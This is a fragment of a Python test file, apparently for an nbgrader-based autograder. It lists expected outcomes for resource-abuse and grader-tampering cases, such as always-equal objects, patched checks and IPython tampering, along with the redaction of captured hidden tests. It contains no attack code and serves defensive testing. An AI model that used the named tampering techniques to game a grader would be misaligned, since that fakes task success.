    "memfd_hoard": None,
    "project_sources": None,
    "fifo_in_subfolder": None,
    "device_in_subfolder": None,
    "disk_and_inodes": None,
    # the hidden tests run in the student's process: the hook sees them, the redaction
    # removes every output that quotes them
    "hidden_tests_captured": Expect("graded", "full", events=(("hidden tests", "removed"),)),
    # the scores are plain nbgrader 0.9.6's for the same notebooks (cell by cell)
    "always_equal": Expect("graded", _LIAR_FAIL, reason=(FLAGGED,), flagged=True),
    "patched_checks_on_solution": Expect("graded", "full", reason=(FLAGGED,), flagged=True),
    "ipython_tampering": Expect("graded", "full", reason=(FLAGGED,), flagged=True),
    "helper_hijack": Expect("graded", _HIJACK_FAIL, reason=(FLAGGED,), flagged=True),
    VICTIM: None,
}


def compatible_expect(case: Case) -> Expect:
    """The outcome ``case`` is owed in compatible mode (see :data:`COMPATIBLE`)."""
    return COMPATIBLE[case.name] or case.expect


# Where compatible mode's integrity probe does not (yet) notice the tampering: the outcome and
# CSV checks of these cases are expected failures (strict), with the reason; the score part
# of their expectation holds today (it is nbgrader's).
PROBE_GAPS: dict[str, str] = {}  # every tampering case of the corpus is flagged now
